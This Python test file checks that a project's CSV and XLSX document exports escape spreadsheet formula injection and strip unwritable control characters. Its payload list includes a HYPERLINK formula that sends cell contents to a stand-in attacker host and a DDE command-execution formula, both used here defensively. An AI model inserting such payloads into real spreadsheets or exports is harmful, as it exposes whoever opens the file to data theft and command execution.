"""CSV/XLSX injection and unwritable characters in exports (issue 9, item 1): a cell that a
spreadsheet would run as a formula is exported as text, and control characters cannot break XLSX."""

from __future__ import annotations

import csv
import tempfile
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import delete, insert

from regionlens.export.documents import export_documents
from regionlens.safe_cells import FORMULA_START
from regionlens.store.project import Project
from regionlens.store.schema import documents

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", "обычный заголовок"]


def _store(project: Project, titles: list[str], origin: str = "file.csv:1") -> None:
    now = datetime.now(UTC)
    with project.engine.begin() as conn:
        conn.execute(delete(documents))
        conn.execute(insert(documents), [
            {"title": t, "text": t or "текст", "url": t, "ext_id": t[:200], "origin": origin, "content_hash": f"h{i}",
             "lemmas": "", "ingested_at": now, "kind": "media"}
            for i, t in enumerate(titles)
        ])


def _csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _expected(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def test_formula_payloads_are_text_in_csv_and_xlsx(project: Project, tmp_path: Path) -> None:
    _store(project, PAYLOADS, origin="=1+1\x07.csv:3")
    export_documents(project.engine, tmp_path / "d.csv")
    rows = _csv_cells(tmp_path / "d.csv")
    for column in ("title", "text", "url", "ext_id"):
        assert [r[column] for r in rows] == [_expected(p) for p in PAYLOADS]
    assert {r["origin"] for r in rows} == {"'=1+1\x07.csv:3"}

    export_documents(project.engine, tmp_path / "d.xlsx")
    sheet = load_workbook(tmp_path / "d.xlsx").active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    for column in ("title", "text", "url", "ext_id", "origin"):
        cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
        values = [str(c.value) for c in cells]
        assert not any(v.startswith(FORMULA_START) for v in values), values
    origins = {str(row[header.index("origin")].value) for row in sheet.iter_rows(min_row=2)}
    assert origins == {"'=1+1.csv:3"}  # the control byte XML cannot carry is dropped, the file is still written


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(titles=st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\x00\x1b'\"abя ,;")) | st.characters(codec="utf-8"), min_size=1, max_size=20), min_size=1, max_size=5))
def test_no_exported_cell_starts_a_formula(project: Project, titles: list[str]) -> None:
    titles = [t.replace("\x00", "") or "пусто" for t in titles]  # NUL cannot be stored in PostgreSQL text at all
    _store(project, titles)
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp)
        export_documents(project.engine, out / "d.csv")
        assert [r["title"] for r in _csv_cells(out / "d.csv")] == [_expected(t) for t in titles]
        export_documents(project.engine, out / "d.xlsx")
        sheet = load_workbook(out / "d.xlsx").active
        assert sheet is not None
        column = [c.value for c in sheet[1]].index("title")
        for row in sheet.iter_rows(min_row=2):
            assert row[column].data_type != "f" and not str(row[column].value or "").startswith(FORMULA_START)
